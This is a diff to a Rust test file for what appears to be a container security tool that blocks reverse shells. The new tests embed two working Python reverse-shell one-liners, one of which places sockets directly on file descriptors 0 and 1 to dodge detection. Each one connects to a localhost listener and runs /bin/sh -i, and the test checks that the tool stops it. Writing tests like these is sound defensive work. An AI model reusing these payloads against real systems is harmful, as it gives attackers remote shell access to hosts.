@@ -146,22 +146,45 @@ pub fn own_library_is_no_finding() -> Result<()> {
     Ok(())
 }
 
-/// A shell on a connection that its parent made: refused before it becomes a shell.
+/// A shell on connections that are its standard input and output already. Nothing has moved them there: they were made
+/// with these numbers, as the lowest that are free. (Who moves one is stopped by that, before there is a shell:
+/// [`connection_on_stdio_is_no_shell`].) Refused before it becomes a shell.
 pub fn shell_on_a_socket_never_starts() -> Result<()> {
+    const SHELL: &str = "import os, socket\n\
+         os.close(0); os.close(1)\n\
+         a = socket.create_connection((\"127.0.0.1\", PORT))\n\
+         b = socket.create_connection((\"127.0.0.1\", PORT))\n\
+         assert (a.fileno(), b.fileno()) == (0, 1)\n\
+         os.set_inheritable(0, True); os.set_inheritable(1, True)\n\
+         os.execv(\"/bin/sh\", [\"sh\", \"-i\"])";
     let stage = stage("protect")?;
+    let alert = never_starts(&stage, SHELL)?;
+    let by = &alert["bulkhead"]["enforced_by"];
+    ensure!(by == if lsm() { "lsm" } else { "signal" }, "enforced by {by}: {alert}");
+    Ok(())
+}
+
+/// A program that starts a shell on its connection moves it to where a child's standard input and output are, and dies
+/// of that: by a signal on every kernel, as no security module is asked.
+pub fn connection_on_stdio_is_no_shell() -> Result<()> {
+    const SHELL: &str = "import socket, subprocess\n\
+         s = socket.create_connection((\"127.0.0.1\", PORT))\n\
+         subprocess.call([\"/bin/sh\", \"-i\"], stdin=s, stdout=s, stderr=s)";
+    let stage = stage("protect")?;
+    let alert = never_starts(&stage, SHELL)?;
+    let (by, what) = (&alert["bulkhead"]["enforced_by"], &alert["bulkhead"]["evidence"][0]["what"]);
+    ensure!(by == "signal" && what == "stdio_moved_to_outbound_socket", "{alert}");
+    Ok(())
+}
+
+/// Runs a program of python's against a listener that types a command into every connection.
+fn never_starts(stage: &Stage, program: &str) -> Result<Value> {
     let peer = Peer::shell(stage.container.listen()?, "touch /tmp/ran\n", pace::wait(Duration::from_secs(3)))?;
-    let script = format!(
-        "python3 -c 'import socket, subprocess\n\
-         s = socket.create_connection((\"127.0.0.1\", {}))\n\
-         subprocess.call([\"/bin/sh\", \"-i\"], stdin=s, stdout=s, stderr=s)'",
-        peer.port
-    );
-    stage.container.run(&script)?;
+    stage.container.run(&format!("python3 -c '{}'", program.replace("PORT", &peer.port.to_string())))?;
     let alert = stage.watch.daemon.await_alert("reverse_shell", stage.container.id())?;
-    ensure!(!lsm() || alert["bulkhead"]["enforced_by"] == "lsm", "enforced by {}", alert["bulkhead"]["enforced_by"]);
     ensure!(!stage.has("/tmp/ran"), "the attacker's command ran");
     ensure!(peer.received() == 0, "the attacker received {} bytes", peer.received());
-    Ok(())
+    Ok(alert)
 }
 
 /// The runtime's socket, under another path: with LSM there is no connection, without not one byte.
